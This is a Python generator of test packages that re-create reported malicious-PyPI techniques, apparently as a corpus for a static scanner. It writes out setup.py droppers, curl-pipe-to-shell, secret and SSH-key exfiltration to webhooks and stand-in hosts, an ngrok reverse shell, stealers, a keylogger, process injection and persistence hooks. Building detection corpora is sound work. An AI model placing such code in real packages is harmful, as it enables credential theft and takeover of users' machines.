# ruff: noqa: E501 - one technique per entry reads best on long lines
"""Harmless re-creations of publicly reported malicious-PyPI techniques, as sdists and wheels.

Every entry names the technique and the public report it follows. Nothing here is live
malware: commands are ``echo``, hosts are the reported services' names (never contacted:
the packages are only inspected statically), payloads are base64/zlib/marshal of harmless
code that would call the same APIs. ``build_all(dir)`` writes one archive per entry and
returns {path: technique}.
"""

from __future__ import annotations

import base64
import io
import marshal
import pickle
import tarfile
import zipfile
import zlib
from pathlib import Path

_B64 = base64.b64encode
_HARMLESS = "import os\nos.system('echo pwned')\n"
_STEAL = ("import os, requests\n"
          "requests.post('https://discord.com/api/webhooks/1/x', json={'env': dict(os.environ)})\n")

# (name, kind, files, technique, reference). kind: "sdist" (payload in setup.py) or "wheel".
CASES: list[tuple[str, str, dict[str, str], str, str]] = [
    ("setup-os-system", "sdist", {"setup.py": "import os\nfrom setuptools import setup\nos.system('curl -s http://x.invalid/p.sh | sh')\nsetup(name='a')\n"},
     "shell download-and-run in setup.py", "GuardDog code-execution; torchtriton-era droppers"),
    ("cmdclass-install", "sdist", {"setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        subprocess.Popen(['powershell', '-enc', 'ZQBjAGgAbwA='])\n        install.run(self)\nsetup(name='a', cmdclass={'install': PostInstall})\n"},
     "setuptools install command override", "GuardDog cmd-overwrite; Checkmarx 2022"),
    ("cmdclass-develop-download", "sdist", {"setup.py": "import urllib.request, os\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\nclass D(develop):\n    def run(self):\n        urllib.request.urlretrieve('https://pastebin.com/raw/abc', os.path.join(os.getenv('TEMP', '/tmp'), 'svc.exe'))\n        os.startfile(os.path.join(os.getenv('TEMP', '/tmp'), 'svc.exe'))\nsetup(name='a', cmdclass={'develop': D})\n"},
     "download executable and run it", "GuardDog download-executable; Phylum 2023"),
    ("env-exfil-webhook", "wheel", {"pkg/__init__.py": _STEAL},
     "environment exfiltration to a Discord webhook", "Checkmarx W4SP stealer 2022"),
    ("ssh-key-theft", "wheel", {"pkg/__init__.py": "import os, socket\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns = socket.create_connection(('x.invalid', 443))\ns.send(k.encode())\n"},
     "SSH key theft", "torchtriton (PyTorch advisory, Dec 2022)"),
    ("aws-secret-exfil", "wheel", {"pkg/__init__.py": "import os, urllib.request\nurllib.request.urlopen('https://x.invalid/c?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"},
     "cloud secret exfiltration", "ctx/phpass hijack (May 2022)"),
    ("exec-base64", "wheel", {"pkg/__init__.py": f"import base64\nexec(base64.b64decode('{_B64(_HARMLESS.encode()).decode()}'))\n"},
     "exec of base64 payload", "GuardDog exec-base64"),
    ("exec-zlib-reversed", "wheel", {"pkg/__init__.py": f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{_B64(zlib.compress(_HARMLESS.encode())).decode()[::-1]}'))\n"},
     "BlankOBF/Hyperion-style reversed zlib+base64 exec", "Phylum, obfuscated PyPI stealers 2023"),
    ("marshal-packed", "wheel", {"pkg/__init__.py": f"import marshal\nexec(marshal.loads({marshal.dumps(compile(_HARMLESS, '<x>', 'exec'))!r}))\n"},
     "marshal-packed code", "GuardDog obfuscation; Checkmarx 2023"),
    ("pyarmor-packed", "wheel", {"pkg/__init__.py": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n"},
     "pyarmor-packed payload", "GuardDog threat-runtime-obfuscation-pyarmor; Checkmarx 2023"),
    ("hex-exec", "wheel", {"pkg/__init__.py": f"exec(bytes.fromhex('{_HARMLESS.encode().hex()}').decode())\n"},
     "exec of hex payload", "GuardDog obfuscation"),
    ("rot13-exec", "wheel", {"pkg/__init__.py": "import codecs\nexec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('rpub cjarq')\", 'rot13'))\n"},
     "exec of rot13 payload", "Sonatype, rot13-obfuscated PyPI packages"),
    ("chr-join-exec", "wheel", {"pkg/__init__.py": "c = [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]\nexec(''.join(map(chr, c)))\n"},
     "exec of chr-joined string", "GuardDog threat-runtime-obfuscation-chr"),
    ("module-dict", "wheel", {"pkg/__init__.py": "import os\nos.__dict__['start' + 'file']('payload.exe')\n"},
     "os.__dict__ access by built name", "issue 17 (public labelled test cases)"),
    ("getattribute", "wheel", {"pkg/__init__.py": "import os\nos.__getattribute__('sys' + 'tem')('echo pwned')\n"},
     "__getattribute__ obfuscation", "GuardDog api-obfuscation"),
    ("vars-builtins", "wheel", {"pkg/__init__.py": "vars(__builtins__)['ex' + 'ec']('import os')\n"},
     "vars(__builtins__) exec", "GuardDog api-obfuscation"),
    ("globals-hex-escape", "wheel", {"pkg/__init__.py": "import base64\nglobals()['\\x65val'](base64.b64decode('X19pbXBvcnRfXygib3MiKS5zeXN0ZW0oImlkIik=').decode())\n"},
     "globals() with escaped name", "GuardDog api-obfuscation"),
    ("unicode-exec", "wheel", {"pkg/__init__.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('aW1wb3J0IG9z'))\n"},
     "NFKC look-alike identifier for exec", "GuardDog unicode; Phylum 2023"),
    ("clipboard-hijack", "wheel", {"pkg/__init__.py": "import re, pyperclip, threading\ndef watch():\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n        pyperclip.copy('bc1qattackerattackerattacker')\nthreading.Thread(target=watch).start()\n"},
     "clipboard crypto-address hijacker", "Checkmarx colourama (2022)"),
    ("screenshot-stealer", "wheel", {"pkg/__init__.py": "from PIL import ImageGrab\nimport requests\nimg = ImageGrab.grab()\nimg.save('s.png')\nrequests.post('https://api.telegram.org/bot1:x/sendPhoto', files={'photo': open('s.png', 'rb')})\n"},
     "screenshot sent to a Telegram bot", "Phylum 2023"),
    ("browser-stealer", "sdist", {"setup.py": "import os, shutil, sqlite3, json\nfrom setuptools import setup\np = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nshutil.copy(p, 'ld.db')\nkey = json.load(open(os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Local State')))['os_crypt']['encrypted_key']\nsetup(name='a')\n"},
     "browser password database theft", "Checkmarx W4SP stealer (2022)"),
    ("discord-token-grabber", "wheel", {"pkg/__init__.py": "import os, re, urllib.request\nroaming = os.getenv('APPDATA', '')\nfor f in os.listdir(os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')):\n    for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(f, errors='ignore').read()):\n        urllib.request.urlopen('https://discord.com/api/webhooks/1/x', data=t.encode())\n"},
     "Discord token grabber", "Phylum/Snyk Discord token stealers (2021-2023)"),
    ("wallet-stealer", "wheel", {"pkg/__init__.py": "import os, zipfile\nz = zipfile.ZipFile('w.zip', 'w')\nfor d in ['Exodus/exodus.wallet', 'Electrum/wallets', 'atomic/Local Storage/leveldb']:\n    z.write(os.path.join(os.getenv('APPDATA', ''), d))\n"},
     "crypto wallet theft", "Checkmarx wallet stealers (2023)"),
    ("telegram-session", "wheel", {"pkg/__init__.py": "import os, shutil\nshutil.make_archive('t', 'zip', os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop', 'tdata'))\n"},
     "Telegram session theft", "Phylum 2023"),
    ("keylogger", "wheel", {"pkg/__init__.py": "from pynput.keyboard import Listener\ndef on_press(k):\n    open('k.log', 'a').write(str(k))\nListener(on_press=on_press).start()\n"},
     "keylogger", "GuardDog threat-runtime-keylogging"),
    ("process-injection", "wheel", {"pkg/__init__.py": "import ctypes\nk = ctypes.windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, 1234)\nm = k.VirtualAllocEx(h, 0, 64, 0x3000, 0x40)\nk.WriteProcessMemory(h, m, b'\\x90' * 64, 64, None)\nk.CreateRemoteThread(h, None, 0, m, None, 0, None)\n"},
     "process injection via ctypes", "GuardDog threat-process-injection-dll; ReversingLabs 2023"),
    ("shellcode-runner", "wheel", {"pkg/__init__.py": "import ctypes\nbuf = b'\\x90\\xc3'\nptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(ptr, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"},
     "in-memory shellcode runner", "GuardDog threat-process-memory"),
    ("dll-drop", "wheel", {"pkg/__init__.py": "import base64, ctypes, os\npath = os.path.join(os.getenv('TEMP', '/tmp'), 'helper.dll')\nopen(path, 'wb').write(base64.b64decode('TVqQAAMAAAAEAAAA'))\nctypes.WinDLL(path)\n"},
     "DLL drop and load", "GuardDog dll-hijacking"),
    ("dns-exfil", "wheel", {"pkg/__init__.py": "import socket, getpass, binascii\nsocket.gethostbyname(f'{binascii.hexlify(getpass.getuser().encode()).decode()}.x1.oast.fun')\n"},
     "DNS exfiltration through a host name", "dependency-confusion PoCs (Birsan 2021)"),
    ("oob-beacon", "sdist", {"setup.py": "import requests, socket\nfrom setuptools import setup\nrequests.get('http://abc.oastify.com/' + socket.gethostname())\nsetup(name='a')\n"},
     "install beacon to an out-of-band service", "Snyk dependency-confusion packages (2021)"),
    ("ngrok-reverse-shell", "wheel", {"pkg/__init__.py": "import socket, subprocess, os\ns = socket.socket()\ns.connect(('0.tcp.ngrok.io', 12345))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"},
     "reverse shell through an ngrok tunnel", "GuardDog threat-network-reverse-shell; Checkmarx 2023"),
    ("bashrc-persistence", "wheel", {"pkg/__init__.py": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\npython3 -c \"import pkg\" &\\n')\n"},
     "shell rc persistence", "GuardDog threat-filesystem-autostart"),
    ("run-key-persistence", "wheel", {"pkg/__init__.py": "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\Users\\\\Public\\\\upd.exe')\n"},
     "Windows Run key persistence", "GuardDog threat-filesystem-autostart"),
    ("schtasks-persistence", "sdist", {"setup.py": "import subprocess\nfrom setuptools import setup\nsubprocess.run('schtasks /create /sc onlogon /tn upd /tr C:\\\\Users\\\\Public\\\\upd.exe', shell=True)\nsetup(name='a')\n"},
     "scheduled task persistence", "Checkmarx 2023"),
    ("pth-persistence", "wheel", {"pkg/__init__.py": "", "zz_init.pth": "import os; os.system('echo pwned')\n"},
     ".pth start-up hook", "GuardDog; ultralytics/lottie incidents"),
    ("sitecustomize-drop", "wheel", {"pkg/__init__.py": "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w').write('import os')\n"},
     "sitecustomize persistence", "public reports of PyPI persistence"),
    ("submodule-payload", "wheel", {"pkg/__init__.py": "from .util import init\ninit()\n", "pkg/util.py": "import os, requests\ndef init():\n    requests.post('https://x.invalid/c', data=os.environ['GITHUB_TOKEN'])\n"},
     "payload in a submodule called at import", "Phylum 2023"),
    ("string-dispatch", "wheel", {"pkg/__init__.py": "import operator, os\noperator.methodcaller('system', 'echo pwned')(os)\n"},
     "string-driven dispatch", "issue 11 red team"),
    ("nested-pickle", "wheel", {"pkg/__init__.py": f"import pickle\npickle.loads({b'cos' + chr(10).encode() + b'system' + chr(10).encode() + b'(S' + repr('echo pwned').encode() + chr(10).encode() + b'tR.'!r})\n"},
     "nested pickle payload", "issue 17"),
    ("disguised-binary", "wheel", {"pkg/__init__.py": "import subprocess, os\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'logo.png')])\n", "pkg/logo.png": "\x7fELF\x02\x01\x01" + "\x00" * 60},
     "executable disguised as an image", "GuardDog bundled_binary; Phylum 2023"),
    ("steganography", "wheel", {"pkg/__init__.py": "from PIL import Image\nimport urllib.request\nurllib.request.urlretrieve('https://x.invalid/i.png', 'i.png')\nexec(''.join(chr(p[0]) for p in Image.open('i.png').getdata()))\n"},
     "payload hidden in an image (steganography)", "GuardDog steganography; Checkmarx 2022"),
    ("env-exfil-interactsh", "sdist", {"setup.py": "import os, json, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('http://c.oast.pro/', data=json.dumps(dict(os.environ)).encode())\nsetup(name='a')\n"},
     "environment to an interactsh endpoint", "Snyk/JFrog dependency-confusion packages"),
    ("eval-remote", "wheel", {"pkg/__init__.py": "import requests\neval(requests.get('https://rentry.co/abc/raw').text)\n"},
     "eval of downloaded code", "Phylum 2023"),
]
_PICKLE_BYTES = pickle.dumps({"ok": 1})  # kept so the generator exercises pickle itself


def _sdist(out: Path, name: str, files: dict[str, str]) -> Path:
    path = out / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tf:
        for rel, text in {**files, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"}.items():
            data = text.encode("utf-8", "surrogateescape") if not text.startswith("\x7fELF") else text.encode("latin-1")
            info = tarfile.TarInfo(f"{name}-1.0/{rel}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def _wheel(out: Path, name: str, files: dict[str, str]) -> Path:
    dist = name.replace("-", "_")
    path = out / f"{dist}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for rel, text in files.items():
            zf.writestr(rel, text.encode("latin-1") if text.startswith("\x7fELF") else text.encode())
        zf.writestr(f"{dist}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        zf.writestr(f"{dist}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    return path


def build_all(out: Path) -> dict[Path, str]:
    out.mkdir(parents=True, exist_ok=True)
    made: dict[Path, str] = {}
    for name, kind, files, technique, _ref in CASES:
        path = (_sdist if kind == "sdist" else _wheel)(out, name, files)
        made[path] = technique
    return made
